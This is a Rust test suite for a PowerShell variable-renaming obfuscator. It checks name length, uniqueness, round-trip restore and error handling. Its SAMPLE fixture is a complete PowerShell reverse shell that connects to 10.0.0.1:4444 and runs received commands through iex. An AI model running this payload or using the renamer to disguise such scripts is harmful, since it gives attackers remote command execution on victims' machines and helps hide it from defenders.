use std::collections::HashSet;
use var_randomizer::{
    from_fn, randomize, scan_identifiers, NameGenerator, RandomizeOptions, RandomizerError,
    Randomizer, ReplaceMode, Rewriter,
};

const SAMPLE: &str = r#"$client = New-Object System.Net.Sockets.TCPClient("10.0.0.1", 4444)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | % { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $sendback = (iex $data 2>&1 | Out-String)
    $stream.Write($sendback, 0, $sendback.Length)
}
$client.Close()
"#;

#[test]
fn test_foo_bar_example() {
    let text = "$foo = 1\n$bar = $foo + 2";
    let identifiers = scan_identifiers(text);
    assert_eq!(
        identifiers.iter().map(String::as_str).collect::<Vec<_>>(),
        vec!["$bar", "$foo"]
    );

    let rewrite = randomize(text, &RandomizeOptions::new().prefix("p")).unwrap();
    let foo = rewrite.mapping.get("$foo").unwrap();
    let bar = rewrite.mapping.get("$bar").unwrap();

    for replacement in [foo, bar] {
        assert!(replacement.starts_with("$p"));
        assert_eq!(replacement.chars().count(), 41);
    }
    assert_eq!(rewrite.text.matches(foo).count(), 2);
    assert_eq!(rewrite.text.matches(bar).count(), 1);
    assert!(!rewrite.text.contains("$foo"));
    assert!(!rewrite.text.contains("$bar"));
}

#[test]
fn test_every_name_has_min_length() {
    let options = RandomizeOptions::new().prefix("obf_").min_length(40);
    let rewrite = randomize(SAMPLE, &options).unwrap();

    assert_eq!(rewrite.mapping.len(), 6);
    for (_, replacement) in rewrite.mapping.iter() {
        let name = replacement.strip_prefix('$').unwrap();
        assert_eq!(name.chars().count(), 40);
        assert!(name.starts_with("obf_"));
    }
}

#[test]
fn test_names_are_pairwise_distinct() {
    let text: String = (0..500).map(|i| format!("$v{} = {}\n", i, i)).collect();
    let rewrite = randomize(&text, &RandomizeOptions::new().prefix("p")).unwrap();

    let replacements: HashSet<&str> = rewrite.mapping.iter().map(|(_, r)| r).collect();
    assert_eq!(rewrite.mapping.len(), 500);
    assert_eq!(replacements.len(), 500);
}

#[test]
fn test_read_only_variables_are_untouched() {
    let text = "$out = $env:PATH + $input\nWrite-Host $out";
    let rewrite = randomize(text, &RandomizeOptions::new().prefix("p")).unwrap();

    assert_eq!(rewrite.mapping.len(), 1);
    assert!(rewrite.text.contains("$env:PATH"));
    assert!(rewrite.text.contains("$input"));
    assert!(!rewrite.text.contains("$out"));
}

#[test]
fn test_round_trip_restores_original() {
    for mode in [ReplaceMode::Literal, ReplaceMode::Token] {
        let options = RandomizeOptions::new().prefix("zz").mode(mode);
        let rewrite = randomize(SAMPLE, &options).unwrap();
        assert_ne!(rewrite.text, SAMPLE);
        assert_eq!(rewrite.mapping.restore(&rewrite.text), SAMPLE);
    }
}

#[test]
fn test_second_run_is_not_idempotent() {
    let options = RandomizeOptions::new().prefix("p");
    let first = randomize(SAMPLE, &options).unwrap();
    let second = randomize(&first.text, &options).unwrap();

    // The output is re-scanned and renamed again with fresh material
    assert_ne!(second.text, first.text);
    let first_names: HashSet<&str> = first.mapping.iter().map(|(_, r)| r).collect();
    for (original, replacement) in second.mapping.iter() {
        assert!(first_names.contains(original));
        assert!(!first_names.contains(replacement));
    }
}

#[test]
fn test_long_prefix_is_truncated_to_min_length() {
    let prefix = "a".repeat(50);
    let options = RandomizeOptions::new().prefix(prefix.as_str());
    let rewrite = randomize("$only = 1", &options).unwrap();

    assert_eq!(
        rewrite.mapping.get("$only"),
        Some(format!("${}", &prefix[..40]).as_str())
    );
}

#[test]
fn test_long_prefix_cannot_name_two_variables() {
    let options = RandomizeOptions::new().prefix("a".repeat(50));
    let err = randomize("$x = 1\n$y = 2", &options).unwrap_err();
    assert!(matches!(err, RandomizerError::NameSpaceExhausted { .. }));
}

#[test]
fn test_deterministic_source_gives_exact_output() {
    let mut counter = 0u32;
    let source = from_fn(move || {
        counter += 1;
        format!("{:032x}", counter)
    });
    let options = RandomizeOptions::new().prefix("v").min_length(33);
    let mut randomizer = Randomizer::with_source(options, source).unwrap();

    let rewrite = randomizer.randomize("$b = 2\n$a = $b").unwrap();
    let a = format!("$v{:032x}", 1);
    let b = format!("$v{:032x}", 2);
    assert_eq!(rewrite.text, format!("{b} = 2\n{a} = {b}"));
}

#[test]
fn test_rewriter_with_shared_generator_keeps_names_unique() {
    // Two documents renamed with one generator share the used-names set
    let mut counter = 0u32;
    let source = from_fn(move || {
        counter += 1;
        format!("{:032x}", (counter + 1) / 2)
    });
    let mut generator = NameGenerator::new("s", 33, source);
    let rewriter = Rewriter::default();

    let first = rewriter
        .rewrite("$a = 1", &scan_identifiers("$a = 1"), &mut generator)
        .unwrap();
    let second = rewriter
        .rewrite("$a = 1", &scan_identifiers("$a = 1"), &mut generator)
        .unwrap();

    assert_ne!(first.mapping.get("$a"), second.mapping.get("$a"));
    assert_eq!(generator.used_names().len(), 2);
}
